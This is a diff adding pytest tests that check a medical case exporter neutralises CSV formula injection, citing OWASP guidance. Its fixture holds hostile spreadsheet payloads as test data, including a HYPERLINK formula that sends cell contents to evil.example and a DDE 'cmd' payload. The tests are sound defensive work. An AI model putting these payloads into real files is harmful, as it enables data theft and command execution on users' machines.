@@ -153,3 +153,73 @@ def test_a_case_longer_than_the_csv_layout_is_cut_and_says_so_while_ndjson_keeps
 def test_options_refuse_deidentification_without_a_key():
     with pytest.raises(ValueError, match="key"):
         Options(deidentified=True)
+
+
+# ---- issue 12, finding 5: formula injection -------------------------------------------------------
+#
+# OWASP, "CSV Injection": "This attack is difficult to mitigate, and explicitly disallowed from quite a
+# few bug bounty programs. To remediate it, ensure that no cells begin with any of the following
+# characters: Equals to (=), Plus (+), Minus (-), At (@), Tab (0x09), Carriage return (0x0D)" and, as
+# the sanitisation that makes a spreadsheet read the content as text, "Prepend each cell field with a
+# single quote".
+
+FORMULAS = {
+    ("institution",): '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    ("diagnosis", "biopsy_result"): "+1+2",
+    ("diagnosis", "imaging", 0, "findings"): "@SUM(1+1)",
+    ("reference",): "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def _put(case: dict, path: tuple, value: str) -> None:
+    node = case
+    for step in path[:-1]:
+        node = node[step]
+    node[path[-1]] = value
+
+
+def test_finding_5_csv_formula_injection_cells_are_neutralised_and_read_back(cases):
+    hostile = copy.deepcopy(cases[0])
+    for path, value in FORMULAS.items():
+        _put(hostile, path, value)
+    hostile["diagnosis"]["imaging"][1]["findings"] = "-1.5"  # a number in a text field: stays a number
+    hostile["patient"]["history"] = [{"condition": "other", "text": "'=already quoted", "date": None}]
+    lines = list(extract.csv_lines([hostile], Options(derived=False)))
+    row = _parse(lines)[0]
+    for cell in row.values():
+        assert not cell.startswith(csv_flat.FORMULA_STARTS) or cell == "-1.5", cell
+    assert row["institution"] == "'" + FORMULAS[("institution",)]
+    assert row["reference"] == "'" + FORMULAS[("reference",)]
+    assert row["diagnosis_imaging2_findings"] == "-1.5"
+    assert row["patient_history1_text"] == "''=already quoted"
+    # The import reads every cell back as the extract had it: the same case.
+    report = import_rows("".join(lines), NOW)
+    assert not report.rejected, [r.issues for r in report.rejected]
+    assert report.imported[0].case == hostile
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "+1"),  # a plain number: a spreadsheet reads it as 1, not a formula
+        ("+1+1", "'+1+1"),
+        ("-1.5", "-1.5"),
+        ("-3", "-3"),
+        ("-1e-05", "-1e-05"),
+        ("-", "'-"),
+        ("-1.5;2.0", "'-1.5;2.0"),
+        ("@x", "'@x"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("'=1", "''=1"),
+        ("'", "'"),
+        ("'text", "'text"),
+        ("a=1", "a=1"),
+        ("", ""),
+    ],
+)
+def test_finding_5_neutralise_and_restore_are_inverse(value, cell):
+    assert csv_flat.neutralise(value) == cell
+    assert csv_flat.restore(cell) == value
